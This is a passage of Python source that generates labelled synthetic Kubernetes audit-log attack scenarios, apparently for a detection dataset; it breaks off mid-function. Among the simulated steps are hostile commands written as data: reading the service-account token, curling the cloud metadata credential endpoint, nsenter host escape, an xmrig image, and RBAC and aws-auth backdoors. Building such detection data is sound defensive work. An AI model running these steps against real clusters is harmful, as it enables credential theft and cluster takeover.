"""Attack scenarios injected into the last day, each labelled with every event it produced.

Each category is one function that acts through identities the background already has
(stolen engineer sessions, service-account tokens, node credentials, the CI role) or through
new ones (an anonymous client, an unauthenticated brute-forcer). The seed picks the
categories, victims, addresses, clients, times and intensities; some variants are subtle
(low volume, usual address, usual client) and some requests are denied, as in real intrusions.
Only requests the attacker sends are labelled, not the controllers' reactions to them.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field

from . import objects as o
from .background import Background, user_binding
from .cluster import (
    ACCOUNT,
    ANONYMOUS,
    APP_NAMESPACES,
    PUBLIC_INFO,
    Cluster,
    Engineer,
    access_key,
    binding_reason,
    public_ip,
    rand_str,
    rules_authz,
)
from .emit import HOUR, MINUTE, US, Actor, Emitter, exec_query

SECOND = US
CATEGORIES = [
    "stolen_user_credentials", "stolen_sa_token", "permission_probing", "secrets_sweep", "anonymous_access_granted",
    "rbac_escalation", "exec_system_pod", "aws_auth_tampering", "privileged_workload", "credential_minting",
    "defense_evasion", "system_identity_public_ip", "auth_brute_force", "webhook_tampering",
]
VPS_PREFIXES = ["45.77.", "45.32.", "139.59.", "159.89.", "167.99.", "5.161.", "95.216.", "51.75.", "172.105.",
                "194.26.", "185.220.101.", "2.58.56.", "91.92.", "193.142.146.", "103.152."]
ATTACK_KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
SCRIPT_UAS = ["python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "Go-http-client/2.0"]


@dataclass
class Scenario:
    """One labelled attack: who acted, from where, when, and every auditID it produced."""

    id: str
    category: str
    description: str
    user: str | None
    source_ip: str
    start: int = 0
    end: int = 0
    audit_ids: list[str] = field(default_factory=list)


class Run:
    """A sequence of attacker requests at increasing times; records every auditID."""

    def __init__(self, em: Emitter, rng: random.Random, actor: Actor | None, t: int, scenario: Scenario):
        self.em, self.rng, self.actor, self.t, self.s = em, rng, actor, t, scenario

    def wait(self, lo: float, hi: float) -> None:
        self.t += int(self.rng.uniform(lo, hi) * SECOND)

    def req(self, verb: str, res: str = "", ns: str = "", name: str = "", sub: str = "", gap=(0.2, 3.0),
            **kw) -> str:
        """One request `gap` seconds after the previous; the actor's permissions decide the
        outcome unless `code` is given."""
        self.wait(*gap)
        kw.setdefault("code", None)
        aid = self.em.request(self.t, self.actor, verb, res, ns, name, sub, **kw)
        self.s.audit_ids.append(aid)
        return aid

    def discovery(self) -> None:
        self.req("get", uri="/api?timeout=32s", gap=(0.1, 0.5))
        self.req("get", uri="/apis?timeout=32s", gap=(0.01, 0.1))

    def look_around(self, most: int = 4) -> None:
        """Up to `most` ordinary reads (namespaces, pods, deployments, services): the
        unremarkable part of an intrusion, which still belongs to it."""
        for _ in range(self.rng.randint(0, most)):
            ns = self.rng.choice(APP_NAMESPACES + ["default", "kube-system"])
            verb, res, group, name = self.rng.choice((("get", "namespaces", "", ns), ("list", "pods", "", ""),
                                                      ("list", "deployments", "apps", ""), ("list", "services", "", "")))
            self.req(verb, res, "" if res == "namespaces" else ns, name, group=group,
                     query="" if name else "limit=500", gap=(1, 20))


def vps_ip(rng: random.Random) -> str:
    return public_ip(rng, VPS_PREFIXES)


def fake_pem(rng: random.Random, cn: str, org: str) -> str:
    """An opaque base64 CSR body (the subject is what matters to a reader, not the key)."""
    key = rand_str(rng, 64, o.B64 + "+/")
    body = f"-----BEGIN CERTIFICATE REQUEST-----\nCN={cn},O={org}\n{key}\n-----END CERTIFICATE REQUEST-----\n"
    return base64.b64encode(body.encode()).decode()


class Attacks:
    """Plans and writes the seed's scenarios into the last day [day0, end)."""

    def __init__(self, cluster: Cluster, bg: Background, seed: int, day0: int, end: int):
        self.c, self.bg, self.seed, self.day0, self.end = cluster, bg, seed, day0, end
        self.rng = random.Random(f"auditsift-attacks-{seed}")
        self.em = Emitter(self.rng.getrandbits(64))
        self.scenarios: list[Scenario] = []
        self.victims: set[str] = set()

    def plan(self) -> list[tuple[int, bytes]]:
        """Write every scenario; return its events as (stageTimestamp, line), time-sorted."""
        rng = self.rng
        n = rng.randint(9, 11)
        first = (self.seed * 10) % len(CATEGORIES)
        cats = [CATEGORIES[(first + i) % len(CATEGORIES)] for i in range(n)]
        for i, cat in enumerate(cats):
            srng = random.Random(f"auditsift-attack-{self.seed}-{cat}")
            t0 = self.day0 + int(srng.uniform(0.4, 20.5) * HOUR)
            s = Scenario(f"s{i + 1:02d}-{cat.replace('_', '-')}", cat, "", None, "")
            mark = len(self.em.index)
            getattr(self, f"_{cat}")(srng, t0, s)
            times = [t for t, _, _ in self.em.index[mark:]]
            s.start, s.end = min(times), max(times)
            self.scenarios.append(s)
        return sorted(self.em.drain())

    # ---- helpers ---------------------------------------------------------------------------
    def _engineer(self, rng: random.Random, platform: bool | None = None) -> Engineer:
        """A victim engineer, preferring one no earlier scenario has used."""
        pool = [e for e in self.c.engineers if platform is None or e.platform == platform] or self.c.engineers
        fresh = [e for e in pool if e.username not in self.victims]
        eng = rng.choice(fresh or pool)
        self.victims.add(eng.username)
        return eng

    def _stolen(self, rng: random.Random, eng: Engineer, ip: str, ua: str) -> Actor:
        return eng.actor(access_key(rng), [ip], ua)

    def _night(self, rng: random.Random, eng: Engineer, t0: int) -> int:
        """A time in the victim's local night that falls inside the attack window."""
        for _ in range(50):
            local_hour = rng.uniform(0.5, 5.0)
            local_day = int((self.day0 / US + eng.tz * 3600) // 86400) + rng.choice((0, 1))
            t = int((local_day * 86400 - eng.tz * 3600) * US + local_hour * HOUR)
            if self.day0 + 20 * MINUTE <= t <= self.end - 4 * HOUR:
                return t
        return t0

    # ---- categories ------------------------------------------------------------------------
    def _stolen_user_credentials(self, rng, t0, s):
        eng = self._engineer(rng)
        ip, ua = vps_ip(rng), rng.choice([ATTACK_KUBECTL, "python-requests/2.32.3", "curl/8.5.0"])
        a = self._stolen(rng, eng, ip, ua)
        s.user, s.source_ip = eng.username, ip
        subtle = rng.random() < 0.35
        s.description = (f"{eng.username}'s AWS session used from {ip} ({ua}) at night in their zone: discovery, "
                         f"then secret reads{' (low volume)' if subtle else ''}")
        r = Run(self.em, rng, a, self._night(rng, eng, t0), s)
        r.discovery()
        r.look_around()
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "pods", query="limit=500")
        if not subtle:
            r.req("list", "deployments", group="apps", query="limit=500")
            r.req("get", "configmaps", "kube-system", "aws-auth")
            for ns in rng.sample(APP_NAMESPACES, 3):
                r.req("list", "secrets", ns, query="limit=500", gap=(1, 8))
        targets = rng.sample(self.c.secret_inventory(), 3 if subtle else rng.randint(5, 12))
        for ns, name in targets:
            r.req("get", "secrets", ns, name, gap=(2, 25))

    def _stolen_sa_token(self, rng, t0, s):
        wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods])
        pod = rng.choice(wl.pods)
        ip, ua = vps_ip(rng), rng.choice([ATTACK_KUBECTL, "curl/8.5.0", "python-requests/2.32.3"])
        a = pod.actor.via([ip], ua)
        s.user, s.source_ip = a.username, ip
        s.description = f"token of {a.username} (pod {pod.name}, normally from {pod.ip}) replayed from {ip} with {ua}"
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                "spec": {"namespace": wl.ns}}
        r.req("create", "selfsubjectrulesreviews", group="authorization.k8s.io", req=body,
              resp={**body, "status": {"resourceRules": [o.rule([""], ["secrets"], ["get"])], "incomplete": False}})
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "secrets", query="limit=500")
        r.req("list", "secrets", wl.ns, query="limit=500")
        for name in (wl.secrets + self.c.secrets.get(wl.ns, []))[: rng.randint(2, 5)]:
            r.req("get", "secrets", wl.ns, name, gap=(1, 6))
        r.req("list", "pods", wl.ns, query="limit=500")
        for ns in rng.sample(APP_NAMESPACES, rng.randint(1, 3)):
            r.req("list", "pods", ns, query="limit=500")
        debug = o.container("debug", "alpine:3.19", command=["sleep", "86400"])
        pod_body = o.pod(o.meta(f"debug-{rand_str(rng, 5)}", wl.ns), o.pod_spec(wl.sa, [debug]))
        r.req("create", "pods", wl.ns, req=pod_body, gap=(5, 30))

    def _permission_probing(self, rng, t0, s):
        if rng.random() < 0.5:
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.description = (f"{eng.username} from a usual address runs `kubectl auth can-i` across resources, "
                             "then probes with many denied requests")
        else:
            wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods])
            pod = wl.pods[0]
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
            s.description = f"from inside pod {pod.name}, {a.username} enumerates its permissions (kubectl downloaded into the pod)"
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        checks = [("get", "secrets", "kube-system"), ("list", "secrets", ""), ("create", "pods", "kube-system"),
                  ("create", "clusterrolebindings", ""), ("impersonate", "users", ""), ("create", "pods/exec", "default"),
                  ("get", "nodes", ""), ("create", "serviceaccounts/token", "kube-system"), ("patch", "configmaps", "kube-system"),
                  ("escalate", "clusterroles", ""), ("bind", "clusterroles", ""), ("list", "pods", "")]
        for verb, res, ns in rng.sample(checks, rng.randint(5, len(checks))):
            resource, _, sub = res.partition("/")
            allowed = a.authorize(verb, resource, sub, ns, "", "") is not None
            attrs = {"namespace": ns, "verb": verb, "resource": resource}
            if sub:
                attrs["subresource"] = sub
            body = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
                    "metadata": {"creationTimestamp": None}, "spec": {"resourceAttributes": attrs}}
            r.req("create", "selfsubjectaccessreviews", group="authorization.k8s.io", req=body,
                  resp={**body, "status": {"allowed": allowed}}, gap=(0.3, 2))
        body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                "spec": {"namespace": "kube-system"}}
        r.req("create", "selfsubjectrulesreviews", group="authorization.k8s.io", req=body, resp={**body, "status": {"incomplete": False}})
        probes = [("list", "secrets", "", "", ""), ("list", "secrets", "kube-system", "", ""),
                  ("list", "clusterroles", "", "rbac.authorization.k8s.io", ""),
                  ("list", "clusterrolebindings", "", "rbac.authorization.k8s.io", ""), ("list", "nodes", "", "", ""),
                  ("list", "serviceaccounts", "kube-system", "", ""), ("list", "pods", "kube-system", "", ""),
                  ("list", "daemonsets", "kube-system", "apps", ""),
                  ("list", "mutatingwebhookconfigurations", "", "admissionregistration.k8s.io", ""),
                  ("list", "certificatesigningrequests", "", "certificates.k8s.io", ""), ("list", "persistentvolumes", "", "", ""),
                  ("get", "configmaps", "kube-system", "", "aws-auth"), ("list", "roles", "default", "rbac.authorization.k8s.io", ""),
                  ("list", "deployments", "kube-system", "apps", ""), ("list", "secrets", "default", "", "")]
        for verb, res, ns, group, name in rng.sample(probes, rng.randint(8, len(probes))):
            r.req(verb, res, ns, name, group=group, query="" if name else "limit=500", gap=(0.5, 6))

    def _secrets_sweep(self, rng, t0, s):
        variant = rng.random()
        if variant < 0.4:
            eng = self._engineer(rng, platform=True)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.description = f"{eng.username} (cluster admin, usual address) lists and reads secrets across every namespace"
        elif variant < 0.7:
            pod = self.c.wl["cert-manager"].pods[0]
            a = pod.actor
            s.description = ("cert-manager's service account, from its own pod and client, reads secrets far beyond "
                             "the certificates it manages")
        else:
            pod = self.c.wl["argocd-application-controller"].pods[0]
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
            s.description = "Argo CD's controller identity, from its pod with kubectl, dumps secrets cluster-wide"
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("get", "namespaces", "", "default")
        r.req("list", "secrets", query="limit=500")
        inventory = self.c.secret_inventory()
        namespaces = sorted({ns for ns, _ in inventory})
        for ns in rng.sample(namespaces, rng.randint(3, min(8, len(namespaces)))):
            r.req("list", "secrets", ns, query="limit=500", gap=(0.5, 5))
        for ns, name in rng.sample(inventory, min(len(inventory), rng.randint(15, 28))):
            r.req("get", "secrets", ns, name, gap=(0.3, 20))

    def _anonymous_access_granted(self, rng, t0, s):
        eng = self._engineer(rng, platform=True)
        stolen = rng.random() < 0.5
        creator_ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        creator = eng.actor(access_key(rng), [creator_ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        role = rng.choice(("view", "view", "cluster-admin"))
        name = rng.choice(("system:anonymous-read", "anonymous-metrics", "public-status-reader", "k8s-dashboard-anon"))
        anon_ip, anon_ua = vps_ip(rng), rng.choice(SCRIPT_UAS)
        s.user, s.source_ip = "system:anonymous", anon_ip
        s.description = (f"{eng.username} (from {creator_ip}) binds ClusterRole {role} to system:anonymous via {name}; "
                         f"then unauthenticated requests from {anon_ip} succeed")
        r = Run(self.em, rng, creator, t0, s)
        body = o.binding("ClusterRoleBinding", name, "ClusterRole", role, [o.subject("User", "system:anonymous")])
        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        reason = binding_reason("ClusterRoleBinding", name, "ClusterRole", role, "User", "system:anonymous")
        read = frozenset({"get", "list", "watch"})
        rules = [(None, None, None)] if role == "cluster-admin" else [
            (read, frozenset({"pods", "services", "namespaces", "configmaps", "deployments", "nodes", "endpoints", "pods/log"}), None)]
        anon = Actor("system:anonymous", ANONYMOUS, [anon_ip], anon_ua, "", rules_authz(rules, lambda ns: reason))
        r.wait(300, 3600)
        r.actor = anon
        r.req("get", uri="/version", reason=PUBLIC_INFO, code=200)
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "pods", query="limit=500")
        for ns in rng.sample(APP_NAMESPACES + ["kube-system"], rng.randint(2, 4)):
            r.req("list", "configmaps", ns, query="limit=500", gap=(1, 10))
            r.req("list", "secrets", ns, query="limit=500", gap=(0.5, 3))
        r.req("list", "deployments", group="apps", query="limit=500")

    def _rbac_escalation(self, rng, t0, s):
        variant = rng.choice(("ci_default_sa", "dev_attempts", "wildcard_impersonation"))
        if variant == "ci_default_sa":
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
            ns = rng.choice(("default", "kube-system"))
            name = rng.choice(("default-admin", "ci-bootstrap", "kube-system-default-binding"))
            s.user, s.source_ip = a.username, a.ips[-1]
            s.description = f"the CI deploy role, from its usual NAT but with kubectl, binds cluster-admin to ServiceAccount {ns}:default"
            r = Run(self.em, rng, a, t0, s)
            r.discovery()
            r.look_around()
            body = o.binding("ClusterRoleBinding", name, "ClusterRole", "cluster-admin", [o.subject("ServiceAccount", "default", ns)])
            r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
                  resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0)))
            r.req("get", "clusterrolebindings", name=name, group="rbac.authorization.k8s.io")
            return
        if variant == "dev_attempts":
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            s.user, s.source_ip = eng.username, a.ips[-1]
            s.description = f"{eng.username} tries to grant themselves cluster-admin, a wildcard Role and impersonation; mostly denied"
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            body = o.binding("ClusterRoleBinding", f"{eng.short}-admin", "ClusterRole", "cluster-admin", [o.subject("User", eng.username)])
            r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body)
            ns = eng.namespaces[0]
            role = o.role("Role", "ops-all", [o.rule(["*"], ["*"], ["*"])], ns)
            r.req("create", "roles", ns, group="rbac.authorization.k8s.io", req=role, gap=(10, 60))
            target = "system:serviceaccount:kube-system:argocd-application-controller"
            r.req("list", "secrets", "kube-system", query="limit=500", code=403,
                  message=f'users "{target}" is forbidden: User "{eng.username}" cannot impersonate resource "users" '
                          'in API group "" at the cluster scope')
            r.req("get", "clusterroles", name="cluster-admin", group="rbac.authorization.k8s.io")
            return
        eng = self._engineer(rng, platform=True)
        ip = vps_ip(rng)
        a = self._stolen(rng, eng, ip, ATTACK_KUBECTL)
        s.user, s.source_ip = eng.username, ip
        backdoor = rng.choice(("system:metrics-aggregator", "eks-node-bootstrapper", "backup-operator"))
        s.description = (f"{eng.username}'s session from {ip}: wildcard ClusterRole {backdoor} with escalate/bind/impersonate, "
                         f"a binding to a new user, then requests impersonating system:masters")
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = o.role("ClusterRole", backdoor, [o.rule(["*"], ["*"], ["*"]),
                                                 o.rule(["rbac.authorization.k8s.io"], ["clusterroles"], ["escalate", "bind"]),
                                                 o.rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"])])
        r.req("create", "clusterroles", group="rbac.authorization.k8s.io", req=body,
              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        b = o.binding("ClusterRoleBinding", backdoor, "ClusterRole", backdoor, [o.subject("User", "backup-svc@corp.example")])
        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=b,
              resp=o.with_server_fields(b, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)))
        imp = {"username": "system:admin", "groups": ["system:masters", "system:authenticated"]}
        masters = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"'
        for res, ns in (("secrets", "kube-system"), ("secrets", "argocd"), ("pods", "")):
            r.req("list", res, ns, query="limit=500", impersonate=imp, reason=masters, code=200, gap=(2, 20))

    def _exec_system_pod(self, rng, t0, s):
        stolen = rng.random() < 0.6
        eng = self._engineer(rng, platform=True)
        ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        pod = rng.choice([p for name in ("aws-node", "ebs-csi-controller", "coredns", "aws-load-balancer-controller")
                          for p in self.c.wl[name].pods])
        s.user, s.source_ip = eng.username, ip
        mode = rng.choice(("exec", "exec", "exec", "attach", "portforward"))
        s.description = f"{eng.username} from {ip}: {mode} into kube-system pod {pod.name}"
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("list", "pods", "kube-system", query="limit=500")
        r.req("get", "pods", "kube-system", pod.name)
        container = pod.workload.containers[0]
        if mode == "exec":
            cmd = rng.choice((["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
                              ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
                              ["sh", "-c", "tar cf - /var/run/secrets/kubernetes.io/serviceaccount"]))
            r.req("create", "pods", "kube-system", pod.name, "exec", query=exec_query(cmd, container),
                  duration=rng.randrange(SECOND, 4 * SECOND))
            if rng.random() < 0.6:
                r.req("create", "pods", "kube-system", pod.name, "exec", query=exec_query(["sh"], container, stdin=True, tty=True),
                      duration=rng.randrange(2 * MINUTE, 15 * MINUTE), gap=(5, 30))
        elif mode == "attach":
            r.req("create", "pods", "kube-system", pod.name, "attach", query=f"container={container}&stdin=true&stdout=true&tty=true",
                  duration=rng.randrange(MINUTE, 10 * MINUTE))
        else:
            r.req("create", "pods", "kube-system", pod.name, "portforward", duration=rng.randrange(5 * MINUTE, 30 * MINUTE))

    def _aws_auth_tampering(self, rng, t0, s):
        variant = rng.choice(("stolen_admin", "ci", "dev_denied"))
        if variant == "ci":
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        elif variant == "stolen_admin":
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
        s.user, s.source_ip = a.username, a.ips[-1]
        attacker_account = "".join(rng.choice("0123456789") for _ in range(12)) if rng.random() < 0.5 else ACCOUNT
        role_name = rng.choice(("eks-admin-break-glass", "NodeInstanceRole-legacy", "support-access"))
        s.description = (f"{a.username} rewrites kube-system/aws-auth mapping "
                         f"arn:aws:iam::{attacker_account}:role/{role_name} to system:masters")
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("get", "configmaps", "kube-system", "aws-auth")
        node_role = f"arn:aws:iam::{ACCOUNT}:role/{self.c.node_role}"
        map_roles = (f"- rolearn: {node_role}\n  username: system:node:{{{{EC2PrivateDNSName}}}}\n"
                     "  groups:\n    - system:bootstrappers\n    - system:nodes\n"
                     f"- rolearn: arn:aws:iam::{attacker_account}:role/{role_name}\n  username: {role_name}\n"
                     "  groups:\n    - system:masters\n")
        cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": o.meta("aws-auth", "kube-system"),
              "data": {"mapRoles": map_roles}}
        verb = rng.choice(("patch", "update"))
        body = {"data": {"mapRoles": map_roles}} if verb == "patch" else cm
        r.req(verb, "configmaps", "kube-system", "aws-auth", req=body,
              resp=o.with_server_fields(cm, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0 - 200 * 86400 * US)), gap=(5, 40))
        r.req("get", "configmaps", "kube-system", "aws-auth", gap=(1, 5))

    def _privileged_workload(self, rng, t0, s):
        """A privileged, host-namespace pod with a sensitive hostPath, created directly or as a
        DaemonSet / CronJob for persistence; the controllers, scheduler and kubelets that
        then run it are part of the scenario."""
        variant = rng.choice(("pod", "daemonset", "cronjob"))
        who = rng.random()
        if who < 0.4:
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            ip = vps_ip(rng) if who < 0.8 else rng.choice(eng.ips)
            a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if who < 0.8 else eng.kubectl)
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("list", "nodes", query="limit=500")
        host_path = rng.choice(("/", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/etc/kubernetes",
                                "/var/lib/kubelet"))
        image = rng.choice(("alpine:3.19", "ubuntu:22.04", "docker.io/library/busybox:1.36",
                            "ghcr.io/k8s-tools/node-debugger:latest"))
        cmd = ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash", "-c",
               "sleep 3600"] if host_path == "/" else ["sh", "-c", "sleep infinity"]
        main = o.container("main", image, privileged=True, command=cmd, mounts=[{"name": "host", "mountPath": "/host"}])
        spec = o.pod_spec("default", [main], [{"name": "host", "hostPath": {"path": host_path, "type": ""}}],
                          host_network=rng.random() < 0.7, host_pid=True, host_ipc=rng.random() < 0.4, tolerate_all=True)
        em, bg, ctl = self.em, self.bg, self.bg.ctl
        nodes = self.c.nodes
        if variant == "pod":
            ns = rng.choice(("kube-system", "default"))
            name = rng.choice(("kube-proxy-debug", "node-shell", "aws-node-helper")) + "-" + rand_str(rng, 5)
            body = o.pod(o.meta(name, ns), spec)
            uid = em.uid()
            r.req("create", "pods", ns, req=body, resp=o.with_server_fields(body, uid, em.next_rv(), em.ts_s(r.t)),
                  annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"})
            s.audit_ids += bg.run_pod(r.t, ns, name, uid, rng.choice(nodes), None, em)
            r.req("get", "pods", ns, name, gap=(3, 15))
            desc = f"privileged pod {ns}/{name} (hostPID, hostPath {host_path})"
        elif variant == "daemonset":
            name = rng.choice(("node-log-collector", "kube-proxy-agent", "cni-health"))
            body = o.workload("DaemonSet", name, "kube-system", spec, {"app": name})
            ds_uid = em.uid()
            r.req("create", "daemonsets", "kube-system", group="apps", req=body,
                  resp=o.with_server_fields(body, ds_uid, em.next_rv(), em.ts_s(r.t)))
            owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": name, "uid": ds_uid, "controller": True,
                     "blockOwnerDeletion": True}
            t = r.t
            for node in nodes:
                t += rng.randrange(20_000, 400_000)
                pod = o.pod(o.meta("", "kube-system", generateName=f"{name}-", labels={"app": name},
                                   ownerReferences=[owner]), dict(spec))
                s.audit_ids += bg.create_pod(t, ctl["daemon-set-controller"], "kube-system",
                                             f"{name}-{rand_str(rng, 5)}", pod, node, None, em)
            r.req("get", "daemonsets", "kube-system", name, group="apps", gap=(3, 15))
            desc = f"privileged DaemonSet kube-system/{name} on every node (hostPath {host_path})"
        else:
            name = rng.choice(("log-rotate", "cache-cleanup", "metrics-push"))
            spec["restartPolicy"] = "OnFailure"
            spec["containers"][0]["image"] = rng.choice(("docker.io/xmrig/xmrig:latest", image))
            body = o.workload("CronJob", name, "default", spec, {"app": name}, schedule="0 * * * *")
            r.req("create", "cronjobs", "default", group="batch", req=body,
                  resp=o.with_server_fields(body, em.uid(), em.next_rv(), em.ts_s(r.t)))
            for t in range(r.t - r.t % HOUR + HOUR, self.end - HOUR, HOUR):
                job = f"{name}-{(t // MINUTE) % 100_000_000}"
                jbody = o.workload("Job", job, "default", spec, {"job-name": job})
                s.audit_ids.append(em.request(t + rng.randrange(SECOND), ctl["cronjob-controller"], "create", "jobs",
                                              "default", group="batch", code=201, req=jbody,
                                              resp=o.with_server_fields(jbody, em.uid(), em.next_rv(), em.ts_s(t))))
                pod = o.pod(o.meta("", "default", generateName=f"{job}-", labels={"job-name": job}), dict(spec))
                s.audit_ids += bg.create_pod(t + SECOND, ctl["job-controller"], "default", f"{job}-{rand_str(rng, 5)}",
                                             pod, rng.choice(nodes), 10 * MINUTE, em)
            desc = f"CronJob default/{name} running a privileged container every hour (hostPath {host_path})"
        s.description = f"{a.username} from {a.ips[-1]} creates {desc}"

    def _credential_minting(self, rng, t0, s):
        if rng.random() < 0.5:
            eng = self._engineer(rng)
            stolen = rng.random() < 0.5
            ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
            a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
            s.user, s.source_ip = eng.username, ip
            targets = rng.sample([("kube-system", "aws-load-balancer-controller"), ("kube-system", "ebs-csi-controller-sa"),
                                  ("argocd", "argocd-application-controller"), ("kube-system", "clusterrole-aggregation-controller"),
                                  ("cert-manager", "cert-manager")], rng.randint(1, 3))
            s.description = (f"{eng.username} from {ip} mints service-account tokens (TokenRequest) for "
                             + ", ".join(f"{n}/{sa}" for n, sa in targets))
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            for ns, sa in targets:
                r.req("get", "serviceaccounts", ns, sa)
                r.req("create", "serviceaccounts", ns, sa, "token",
                      annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={self.em.uid()}"}, gap=(0.5, 4))
            return
        pod = self.c.wl["argocd-application-controller"].pods[0] if rng.random() < 0.5 else None
        if pod:
            a = pod.actor.via(pod.actor.ips, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        s.user, s.source_ip = a.username, a.ips[-1]
        cn = rng.choice(("system:admin", "kubernetes-admin", "eks:cluster-bootstrap"))
        name = rng.choice(("node-csr-", "csr-", "admin-")) + rand_str(rng, 8, "abcdefghijklmnopqrstuvwxyz0123456789")
        s.description = f"{a.username} from {a.ips[-1]} creates and self-approves a client-auth CSR for CN={cn}, O=system:masters"
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        body = o.csr(name, fake_pem(rng, cn, "system:masters"), "kubernetes.io/kube-apiserver-client", ["client auth"],
                     rng.choice((None, 31536000)))
        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body,
              resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(t0)))
        approval = o.csr_approval(name, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
        r.req("update", "certificatesigningrequests", name=name, sub="approval", group="certificates.k8s.io",
              req=approval, resp=approval, gap=(3, 30))
        r.req("get", "certificatesigningrequests", name=name, group="certificates.k8s.io", gap=(1, 5))

    def _defense_evasion(self, rng, t0, s):
        eng = self._engineer(rng, platform=True)
        stolen = rng.random() < 0.6
        ip = vps_ip(rng) if stolen else rng.choice(eng.ips)
        a = eng.actor(access_key(rng), [ip], ATTACK_KUBECTL if stolen else eng.kubectl)
        s.user, s.source_ip = eng.username, ip
        s.description = f"{eng.username} from {ip} deletes events to hide activity and disables monitoring"
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        for ns in rng.sample(["kube-system", "default", "payments", "argocd"], rng.randint(1, 3)):
            r.req("deletecollection", "events", ns, req=o.delete_options(), gap=(1, 10))
        for _ in range(rng.randint(2, 10)):
            pod = rng.choice(self.c.pods_in("kube-system"))
            name = f"{pod.name}.{'%016x' % rng.getrandbits(64)}"
            r.req("delete", "events", "kube-system", name, req=o.delete_options(),
                  resp=o.status_success("events", name, self.em.uid()), gap=(0.2, 2))
        if rng.random() < 0.7:
            r.req("delete", "deployments", "monitoring", "kube-state-metrics", group="apps", req=o.delete_options(),
                  resp=o.status_success("deployments", "kube-state-metrics", self.em.uid(), "apps"), gap=(5, 60))
        else:
            r.req("deletecollection", "pods", "monitoring", req=o.delete_options(), gap=(5, 60))

    def _system_identity_public_ip(self, rng, t0, s):
        variant = rng.choice(("node", "node", "kube_system_sa", "eks_lookalike"))
        ip = vps_ip(rng)
        if variant == "node":
            node = rng.choice(self.c.nodes)
            ua = rng.choice((self.c.kubelet_ua, ATTACK_KUBECTL))
            a = node.actor.via([ip], ua)
            s.description = f"kubelet credentials of {node.name} (normally {node.ip}) used from {ip} with {ua}"
            s.user, s.source_ip = a.username, ip
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            r.req("list", "pods", query="limit=500")
            mine = [p for p in node.pods if p.workload.secrets]
